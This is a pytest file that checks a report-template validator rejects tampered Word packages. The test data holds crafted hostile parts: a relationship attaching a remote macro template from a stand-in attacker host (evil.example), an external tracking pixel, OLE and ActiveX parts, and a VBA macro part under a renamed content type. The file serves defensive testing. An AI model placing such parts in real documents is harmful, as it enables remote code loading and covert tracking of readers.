"""A partnership's report template cannot make every published report fetch something from
outside it, or carry an embedded object, a control or macros under another name."""

from __future__ import annotations

import io
import zipfile

import pytest

from audit_app.exports.word import check_report_template, shipped_template

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _changed(extra: dict[str, bytes], types: bytes | None = None) -> bytes:
    """The shipped findings report with parts added or replaced."""
    source = zipfile.ZipFile(io.BytesIO(shipped_template("findings_report")))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            if entry.filename in extra:
                continue
            data = source.read(entry)
            if entry.filename == "[Content_Types].xml" and types is not None:
                data = data.replace(b"</Types>", types + b"</Types>")
            target.writestr(entry, data)
        for name, data in extra.items():
            target.writestr(name, data)
    return out.getvalue()


def _rels(*relationships: str) -> bytes:
    body = "".join(relationships)
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{body}</Relationships>"
    ).encode()


@pytest.mark.parametrize(
    ("parts", "types", "said"),
    [
        (
            {"word/_rels/settings.xml.rels": _rels(
                f'<Relationship Id="rId1" Type="{RELS}/attachedTemplate" '
                'Target="https://evil.example/t.dotm" TargetMode="External"/>'
            )},
            None,
            "attached to another template",
        ),
        (
            {"word/_rels/header9.xml.rels": _rels(
                f'<Relationship Id="rId1" Type="{RELS}/image" '
                'Target="https://tracker.example/pixel.png" TargetMode="External"/>'
            )},
            None,
            "links to something outside it",
        ),
        ({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}, None, "embedded objects"),
        ({"word/activeX/activeX1.xml": b"<ax/>"}, None, "embedded objects"),
        (
            {"word/_rels/extra.xml.rels": _rels(
                f'<Relationship Id="rId1" Type="{RELS}/oleObject" Target="embeddings/x.bin"/>'
            )},
            None,
            "embedded objects",
        ),
        (
            {"word/renamed.bin": b"macros"},
            b'<Override PartName="/word/renamed.bin" '
            b'ContentType="application/vnd.ms-office.vbaProject"/>',
            "contains macros",
        ),
        (
            {"word/_rels/document.XML.RELS": b"<not-closed>"},
            None,
            "not a Word document",
        ),
    ],
)  # fmt: skip
def test_a_template_that_reaches_outside_itself_is_refused(
    parts: dict[str, bytes], types: bytes | None, said: str
) -> None:
    problems = check_report_template("findings_report", _changed(parts, types))
    assert problems and said in " ".join(problems)


def test_a_hyperlink_to_a_website_is_allowed() -> None:
    document = zipfile.ZipFile(io.BytesIO(shipped_template("findings_report")))
    rels = document.read("word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        f'<Relationship Id="rId999" Type="{RELS}/hyperlink" '
        'Target="https://www.gov.uk/government/publications/working-together-to-safeguard-'
        'children--2" TargetMode="External"/></Relationships>'.encode(),
    )
    assert (
        check_report_template("findings_report", _changed({"word/_rels/document.xml.rels": rels}))
        == []
    )
